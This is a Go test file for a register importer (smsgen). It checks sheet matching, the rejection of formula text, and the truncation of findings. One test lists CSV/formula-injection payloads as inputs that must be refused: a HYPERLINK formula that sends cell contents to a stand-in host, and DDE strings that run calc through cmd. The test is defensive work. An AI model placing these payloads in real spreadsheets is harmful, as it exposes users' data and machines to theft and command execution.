package importer_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/smsgen/smsgen/internal/importer"
	"github.com/smsgen/smsgen/internal/testutil"
	"github.com/xuri/excelize/v2"
)

// customSummary adds to the example site a register labelled like the summary
// sheet of a combined workbook, with a field that allows formula text.
func customSummary(t *testing.T) string {
	t.Helper()
	root := testutil.ExampleSite(t)
	files := map[string]string{
		"registers/ringkasan.schema.yaml": "name: ringkasan\nlabel: {id: Ringkasan, en: Summary}\nfields:\n" +
			"  - key: item\n    label: {id: Butir, en: Item}\n    allow_formula_text: true\n" +
			"  - key: remark\n    label: {id: Catatan, en: Remark}\n",
		"registers/ringkasan.csv": "id,item,remark\nRG-1,satu,a\nRG-2,dua,b\n",
	}
	for rel, data := range files {
		if err := os.WriteFile(filepath.Join(root, filepath.FromSlash(rel)), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

// TestRegisterLabelledSummary: a register labelled "Ringkasan"/"Summary" is
// imported from its own sheet of the combined workbook (its sheet is known by
// its table, not its name), and the summary sheet is never taken for it.
func TestRegisterLabelledSummary(t *testing.T) {
	root := customSummary(t)
	dir := buildBooks(t, root)
	file := filepath.Join(dir, "registers.xlsx")
	res := run(t, root, file, "", false)
	if res.Errors() > 0 || len(res.Changes) != 26 {
		t.Fatalf("%d registers, findings:\n%s", len(res.Changes), report(res))
	}
	for _, ch := range res.Changes {
		if !ch.Empty() {
			t.Errorf("%s changed:\n%s", ch.Register, report(res))
		}
		if ch.Register == "ringkasan" && ch.Sheet == "Ringkasan" {
			t.Errorf("the summary sheet was read as register ringkasan")
		}
	}
	res = run(t, root, filepath.Join(dir, "ringkasan.xlsx"), "", false)
	if res.Errors() > 0 || len(res.Changes) != 1 || res.Changes[0].Register != "ringkasan" {
		t.Fatalf("ringkasan.xlsx:\n%s", report(res))
	}
}

// TestFormulaText: text that a spreadsheet would run as a formula is refused
// with a finding at its sheet cell and nothing is written; a field whose
// schema allows it, signed numbers and phone-like text pass.
func TestFormulaText(t *testing.T) {
	root := customSummary(t)
	dir := buildBooks(t, root)
	src := filepath.Join(dir, "ringkasan.xlsx")
	f, err := excelize.OpenFile(src)
	if err != nil {
		t.Fatal(err)
	}
	var sheet string
	for _, sh := range f.GetSheetList() {
		if tables, _ := f.GetTables(sh); len(tables) == 1 {
			sheet = sh
		}
	}
	col := keyLetters(t, f, sheet)
	f.Close()
	csv := filepath.Join(root, "registers", "ringkasan.csv")
	before, _ := os.ReadFile(csv)
	hostile := []string{`=HYPERLINK("http://example.invalid/?x="&A1,"x")`, `=cmd|' /C calc'!A0`, `+1+1`, `@SUM(1,2)`, "-2+3+cmd|' /C calc'!A0", "- butir", "\t=1+1"}
	for _, v := range hostile {
		t.Run(v, func(t *testing.T) {
			edited := filepath.Join(t.TempDir(), "edited.xlsx")
			edit(t, src, edited, sheet, map[string]any{col["remark"] + "3": v, col["item"] + "2": "-" + v})
			res := run(t, root, edited, "", true)
			var got []string
			for _, fd := range res.Findings {
				got = append(got, fd.Code+" "+fd.Field+" "+filepath.Base(fd.File))
				if fd.Code == "import-formula-text" && !strings.Contains(fd.Message, sheet+"!"+col["remark"]+"3") {
					t.Errorf("message without the cell: %s", fd.Message)
				}
			}
			want := "import-formula-text remark edited.xlsx (" + sheet + "!" + col["remark"] + "3)"
			if len(got) != 1 || got[0] != want {
				t.Errorf("findings %v, want [%s]", got, want)
			}
			if after, _ := os.ReadFile(csv); string(after) != string(before) || len(res.Written) > 0 {
				t.Errorf("written: %v\n%s", res.Written, after)
			}
		})
	}
	// allowed: the field that allows it, and text a spreadsheet can only compute as a number
	edited := filepath.Join(t.TempDir(), "ok.xlsx")
	edit(t, src, edited, sheet, map[string]any{col["item"] + "2": "- butir pertama", col["remark"] + "2": "+62 21 555-0100", col["remark"] + "3": "-5"})
	res := run(t, root, edited, "", true)
	if res.Errors() > 0 || len(res.Written) != 1 {
		t.Fatalf("written %v, findings:\n%s", res.Written, report(res))
	}
	after, _ := os.ReadFile(csv)
	if !strings.Contains(string(after), "RG-1,- butir pertama,+62 21 555-0100\n") || !strings.Contains(string(after), "RG-2,dua,-5\n") {
		t.Errorf("ringkasan.csv:\n%s", after)
	}
}

// TestImportTruncationSaid: more than 1,000 findings of one code in a
// workbook end in a findings-truncated finding with the true total.
func TestImportTruncationSaid(t *testing.T) {
	root := testutil.ExampleSite(t)
	dir := buildBooks(t, root)
	f, err := excelize.OpenFile(filepath.Join(dir, "incidents.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	col := keyCols(t, f, "Insiden")
	for r := 2; r < 2+1500; r++ {
		id, _ := excelize.CoordinatesToCellName(col["id"], r)
		st, _ := excelize.CoordinatesToCellName(col["status"], r)
		_ = f.SetCellStr("Insiden", id, "INC-2099-"+itoa(10000+r))
		_ = f.SetCellStr("Insiden", st, "Entah")
	}
	edited := filepath.Join(t.TempDir(), "many.xlsx")
	if err := f.SaveAs(edited); err != nil {
		t.Fatal(err)
	}
	f.Close()
	res, err := importer.Run(importer.Options{Root: root, File: edited, Today: today, Lang: "en"})
	if err != nil {
		t.Fatal(err)
	}
	enums, said := 0, ""
	for _, fd := range res.Findings {
		switch fd.Code {
		case "invalid-enum":
			enums++
		case "findings-truncated":
			if strings.Contains(fd.Message, "invalid-enum") {
				said = fd.Message
			}
		}
	}
	if enums != 1000 || !strings.Contains(said, "(1500)") || !strings.Contains(said, "first 1000") {
		t.Errorf("%d invalid-enum findings kept, truncation finding %q", enums, said)
	}
}
